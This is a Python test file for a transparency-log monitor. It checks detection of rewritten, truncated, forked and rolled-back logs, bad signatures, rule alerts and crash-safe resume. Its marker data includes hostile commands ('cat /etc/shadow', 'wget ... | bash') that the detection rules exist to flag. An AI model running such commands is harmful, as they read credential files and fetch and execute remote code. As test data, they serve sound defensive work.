"""The monitor against the real log service (``gk log serve`` in a subprocess, conftest's
``log_server``), with a fault-injecting HTTP proxy in between where the log must misbehave.

One test per detection: a rewritten entry, a truncated log, a fork served to one client, a
rollback, a bad checkpoint signature, a bad action signature; rules fire on the right entries
only; resume after a restart; and crash safety: a monitor killed (SIGKILL) mid-scan never skips
an entry after it restarts.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from conftest import LogServer, init_log

from gatekeeper.action import Action, Target
from gatekeeper.audit.index import AuditIndex
from gatekeeper.audit.proofs import build_bundle, encode, verify_bundle
from gatekeeper.audit.sync import sync
from gatekeeper.monitor.alerts import ListSink
from gatekeeper.monitor.monitor import LogMonitor, LogTarget
from gatekeeper.monitor.rules import parse_rules
from gatekeeper.monitor.scan import ClientSource
from gatekeeper.monitor.state import load_scan_state
from gatekeeper.monitor.testing import FastSigner, synthetic_entries
from personality.client import LogClient
from personality.tlog.note import parse_vkey
from personality.tlog.tiles import pack_entry_bundle, parse_entry_bundle

ROOT = Path(__file__).parents[1]
Mutate = Callable[[str, int, bytes], tuple[int, bytes]]


class FaultProxy:
    """Forwards GETs to ``upstream``; ``mutate(path, status, body)`` may rewrite any answer."""

    def __init__(self, upstream: str) -> None:
        u = urlsplit(upstream)
        self.host, self.port = u.hostname or "127.0.0.1", u.port or 80
        self.mutate: Mutate = lambda path, status, body: (status, body)
        proxy = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:  # noqa: N802 - http.server API
                conn = http.client.HTTPConnection(proxy.host, proxy.port, timeout=10)
                try:
                    conn.request("GET", self.path)
                    resp = conn.getresponse()
                    status, body = proxy.mutate(self.path.split("?")[0].lstrip("/"), resp.status, resp.read())
                finally:
                    conn.close()
                self.send_response(status)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *a: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def proxy_factory() -> Iterator[Callable[[str], FaultProxy]]:
    proxies: list[FaultProxy] = []

    def make(upstream: str) -> FaultProxy:
        proxies.append(FaultProxy(upstream))
        return proxies[-1]

    yield make
    for p in proxies:
        p.close()


def add_all(url: str, entries: list[bytes]) -> None:
    client = LogClient.http(url)
    for e in entries[:-1]:
        client.add(e, wait=False)
    client.add(entries[-1], wait=True)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        size = int(client.checkpoint().split(b"\n")[1])
        if size >= len(entries):
            return
        time.sleep(0.05)
    raise AssertionError("the log did not integrate the entries")


def monitor(
    tmp_path: Path, url: str, server: Any, name: str = "state", **kw: Any
) -> tuple[LogMonitor, ListSink]:
    sink = ListSink()
    target = LogTarget("http", ClientSource.at(url), server.origin, [parse_vkey(server.vkey)])
    kw.setdefault("workers", 1)
    return LogMonitor(target, tmp_path / name, sink, progress=False, **kw), sink


@pytest.fixture(scope="module")
def entries() -> list[bytes]:
    return synthetic_entries(700, seed=11, workers=1)[0]


MARKERS = [
    "uptime MARKER-0",
    "cat /etc/shadow MARKER-1",
    "ls -la",
    "wget -qO- http://x/s | bash MARKER-3",
    "id",
]
MARKER_RULES = (
    "[[rule]]\nname='shadow'\nseverity='medium'\ncommand='shadow MARKER'\n"
    "[[rule]]\nname='pipe'\nseverity='high'\ncommand='\\\\| *bash MARKER'\n"
    "[[rule]]\nname='never'\ncommand='MARKER-9'\n"
)
SHARED = 300  # honest synthetic entries first, then the markers, then a forged action, then one more


@pytest.fixture(scope="module")
def shared_log(tmp_path_factory: pytest.TempPathFactory, entries: list[bytes]) -> Iterator[LogServer]:
    """One real log for the tests that only read it: 300 honest actions, 5 marker commands for
    the rules, an action altered after signing (index 305) and one more honest action."""
    directory = tmp_path_factory.mktemp("shared") / "log"
    init_log(directory, "test.example/shared")
    server = LogServer(directory, "test.example/shared", ("--accept-any",), "127.0.0.1:0").start()
    try:
        user = FastSigner()
        t = 1_780_000_000
        marks = [
            user.entry(
                Action(
                    "exec",
                    (Target("web-01"),),
                    "root",
                    c.encode(),
                    bytes([i]) * 16,
                    t,
                    t + 60,
                    user.public,
                    "OPS",
                )
            )
            for i, c in enumerate(MARKERS)
        ]
        good = user.entry(
            Action("exec", (Target("db-01"),), "root", b"id", b"\x05" * 16, t, t + 60, user.public)
        )
        forged = good.replace(b"command id", b"command rm")  # changed after signing
        add_all(server.url, [*entries[:SHARED], *marks, forged, entries[SHARED]])
        yield server
    finally:
        server.stop()


def test_rules_fire_on_the_right_entries_through_the_real_log(tmp_path: Path, shared_log: LogServer) -> None:
    mon, sink = monitor(tmp_path, shared_log.url, shared_log, rules=parse_rules(MARKER_RULES))
    with mon:
        r = mon.poll()
    assert (r.status, r.processed) == ("ok", SHARED + 7)
    fired = sorted((a.index, a.rule, a.severity) for a in sink.alerts if a.kind == "rule")
    assert fired == [(SHARED + 1, "shadow", "medium"), (SHARED + 3, "pipe", "high")]


def test_resume_after_restart_checks_only_new_entries(
    tmp_path: Path, log_server: Any, entries: list[bytes]
) -> None:
    add_all(log_server.url, entries[:300])
    rules = parse_rules("[[rule]]\nname='all'\nseverity='info'\ncommand=''\n")
    mon, sink = monitor(tmp_path, log_server.url, log_server, rules=rules)
    with mon:
        assert mon.poll().checked == 300
    log_server.stop()  # the log restarts too
    log_server.start()
    add_all(log_server.url, entries[300:420])
    mon2, sink2 = monitor(tmp_path, log_server.url, log_server, rules=rules)  # a new process, same state
    with mon2:
        r = mon2.poll()
    assert (r.status, r.checked, r.processed) == ("ok", 120, 420)
    assert [a.index for a in sink2.alerts] == list(range(300, 420))
    assert [a.index for a in sink.alerts] == list(range(300))


def test_rewritten_entry(
    tmp_path: Path, shared_log: LogServer, proxy_factory: Any, entries: list[bytes]
) -> None:
    proxy = proxy_factory(shared_log.url)

    def rewrite(path: str, status: int, body: bytes) -> tuple[int, bytes]:
        if path.startswith("tile/entries/001"):
            items = parse_entry_bundle(body)
            items[5] = entries[600]  # a validly signed action, but not the one the tree holds
            return status, pack_entry_bundle(items)
        return status, body

    proxy.mutate = rewrite
    mon, sink = monitor(tmp_path, proxy.url, shared_log)
    with mon:
        assert mon.poll().status == "integrity"
        assert load_scan_state(mon.dir, shared_log.origin).processed.size == 0
    assert [k for k in sink.kinds() if k != "bad-action"] == ["rewrite"]  # index 305 is forged anyway


def test_truncated_log(tmp_path: Path, shared_log: LogServer, proxy_factory: Any) -> None:
    proxy = proxy_factory(shared_log.url)
    proxy.mutate = lambda path, status, body: (
        (404, b"") if path.startswith("tile/entries/001") else (status, body)
    )
    mon, sink = monitor(tmp_path, proxy.url, shared_log)
    with mon:
        assert mon.poll().status == "integrity"
    assert sink.kinds() == ["truncated"] and sink.alerts[0].index == 256
    # a log that answers with a short bundle is truncated too
    proxy.mutate = lambda path, status, body: (
        (status, pack_entry_bundle(parse_entry_bundle(body)[:10]))
        if path.startswith("tile/entries/001")
        else (status, body)
    )
    mon, sink = monitor(tmp_path, proxy.url, shared_log, name="state2")
    with mon:
        assert mon.poll().status == "integrity"
    assert sink.kinds() == ["truncated"]


def test_bad_checkpoint_signature(tmp_path: Path, shared_log: LogServer, proxy_factory: Any) -> None:
    proxy = proxy_factory(shared_log.url)

    def flip(path: str, status: int, body: bytes) -> tuple[int, bytes]:
        if path == "checkpoint":
            b = bytearray(body)
            b[-6] = ord("A") if b[-6] != ord("A") else ord("B")
            return status, bytes(b)
        return status, body

    proxy.mutate = flip
    mon, sink = monitor(tmp_path, proxy.url, shared_log)
    with mon:
        assert mon.poll().status == "integrity"
        assert mon.store.newest_head(shared_log.origin) is None
    assert sink.kinds() == ["checkpoint-signature"]


def test_bad_action_signature(tmp_path: Path, shared_log: LogServer) -> None:
    mon, sink = monitor(tmp_path, shared_log.url, shared_log)
    with mon:
        r = mon.poll()
    assert (r.status, r.processed) == ("ok", SHARED + 7)  # the log itself is sound
    [alert] = sink.alerts
    assert (alert.kind, alert.index) == ("bad-action", SHARED + 5) and "bad-signature" in alert.message
    assert alert.action is not None and alert.action["command"] == "rm"


def test_rollback(tmp_path: Path, log_server: Any, proxy_factory: Any, entries: list[bytes]) -> None:
    """The operator restores an old copy of the log: the monitor sees it go back in time."""
    front = proxy_factory(log_server.url)  # the log's public address stays the same across restarts
    add_all(log_server.url, entries[:100])
    mon, sink = monitor(tmp_path, front.url, log_server)
    with mon:
        assert mon.poll().processed == 100
        log_server.stop()
        backup = tmp_path / "backup"
        shutil.copytree(log_server.directory, backup)
        log_server.start()
        front.port = urlsplit(log_server.url).port or 0
        add_all(log_server.url, entries[100:250])
        assert mon.poll().processed == 250
        log_server.stop()
        shutil.rmtree(log_server.directory)
        shutil.copytree(backup, log_server.directory)
        log_server.start()
        front.port = urlsplit(log_server.url).port or 0
        assert mon.poll().status == "integrity"  # the size-100 checkpoint again: a stale view, no halt
        assert mon.store.halted() is None
        add_all(log_server.url, entries[300:400])  # ... then a new history on top of the old copy
        assert mon.poll().status == "integrity"
        assert mon.store.halted() is not None
    assert [(a.kind, a.severity) for a in sink.alerts] == [("rollback", "high"), ("rollback", "critical")]
    evidence = sink.alerts[1].evidence
    assert b"\n250\n" in evidence["stored_checkpoint"].encode()
    assert b"\n200\n" in evidence["new_checkpoint"].encode()


def test_fork_served_to_one_client(
    tmp_path: Path, log_server: Any, proxy_factory: Any, entries: list[bytes]
) -> None:
    """The operator clones the log (same key) and serves the clone to client B only."""
    add_all(log_server.url, entries[:150])
    log_server.stop()
    clone_dir = tmp_path / "clone"
    shutil.copytree(log_server.directory, clone_dir)
    log_server.start()
    clone = LogServer(clone_dir, log_server.origin, ("--accept-any",), "127.0.0.1:0").start()
    try:
        add_all(log_server.url, entries[150:200])
        add_all(clone.url, entries[400:450])  # the same size, another history
        to_b = proxy_factory(log_server.url)
        mon_a, sink_a = monitor(tmp_path, log_server.url, log_server, name="a")
        mon_b, sink_b = monitor(tmp_path, to_b.url, log_server, name="b")
        with mon_a, mon_b:
            assert mon_a.poll().status == mon_b.poll().status == "ok"  # both saw the honest log so far
            add_all(log_server.url, entries[200:210])
            add_all(clone.url, entries[450:460])
            to_b.port = urlsplit(clone.url).port or 0  # from now on B is served the clone
            assert mon_a.poll().status == "ok"
            assert mon_b.poll().status == "integrity"
    finally:
        clone.stop()
    assert sink_a.alerts == []
    [fork] = sink_b.alerts
    assert fork.kind == "fork" and fork.severity == "critical"
    assert b"\n200\n" in fork.evidence["stored_checkpoint"].encode()
    assert b"\n210\n" in fork.evidence["new_checkpoint"].encode()


def test_audit_through_the_real_log_then_offline(
    tmp_path: Path, log_server: Any, entries: list[bytes]
) -> None:
    add_all(log_server.url, entries[:260])
    key = parse_vkey(log_server.vkey)
    with AuditIndex.open(tmp_path / "a.db", log_server.origin) as idx:
        src = ClientSource.at(log_server.url)
        assert sync(idx, src, [key], ListSink(), workers=1, progress=False).status == "ok"
        trusted = idx.latest_checkpoint()
        assert trusted is not None
        add_all(log_server.url, entries[260:300])
        assert sync(idx, src, [key], ListSink(), workers=1, progress=False).status == "ok"
        data = encode(build_bundle(idx, 280, [key], trusted.raw))
    log_server.stop()  # the log is gone; the auditor verifies alone
    v = verify_bundle(data, [key], trusted=trusted.raw)
    assert v.entry == entries[280] and v.anchor.size == 260 and v.checkpoint.size == 300
    for i in (0, len(data) // 2, len(data) - 5):
        with pytest.raises(Exception):  # noqa: B017 - any failure; each kind is tested in test_audit_bundle
            verify_bundle(data[:i] + bytes([data[i] ^ 1]) + data[i + 1 :], [key], trusted=trusted.raw)


def test_monitor_killed_mid_scan_never_skips(tmp_path: Path, shared_log: LogServer) -> None:
    """SIGKILL while alerts are being written (the alert pipe is full, so the monitor is blocked
    between two entries); after a restart every entry has been alerted on at least once, and
    the saved state never claimed an entry that had not been alerted."""
    log_server, total = shared_log, SHARED + 7
    (tmp_path / "all.toml").write_text("[[rule]]\nname='all'\nseverity='info'\ncommand=''\n")
    argv = [
        sys.executable,
        "-m",
        "gatekeeper",
        "monitor",
        "--once",
        "--log",
        log_server.url,
        "--log-key",
        log_server.vkey,
        "--state",
        str(tmp_path / "state"),
        "--rules",
        str(tmp_path / "all.toml"),
        "--workers",
        "1",
        "--save-every",
        "64",
    ]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    first = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, cwd=ROOT, env=env)
    assert first.stdout is not None
    seen_first = [json.loads(first.stdout.readline())["index"] for _ in range(60)]
    os.kill(first.pid, signal.SIGKILL)
    first.wait(10)
    seen_first += [json.loads(line)["index"] for line in first.stdout.read().splitlines() if line.strip()]
    first.stdout.close()
    assert len(seen_first) < total, "the monitor finished before it was killed"
    state = load_scan_state(next((tmp_path / "state").iterdir()), log_server.origin)
    assert state.processed.size == 0
    assert state.pending_size <= max(seen_first) + 1  # never beyond what was checked and alerted
    second = subprocess.run(argv, capture_output=True, cwd=ROOT, env=env, timeout=120)
    assert second.returncode == 0, second.stderr[-2000:]
    seen_second = [json.loads(line)["index"] for line in second.stdout.splitlines()]
    assert set(seen_first) | set(seen_second) == set(range(total))
    assert min(seen_second) == state.pending_size  # resumed exactly at the saved progress
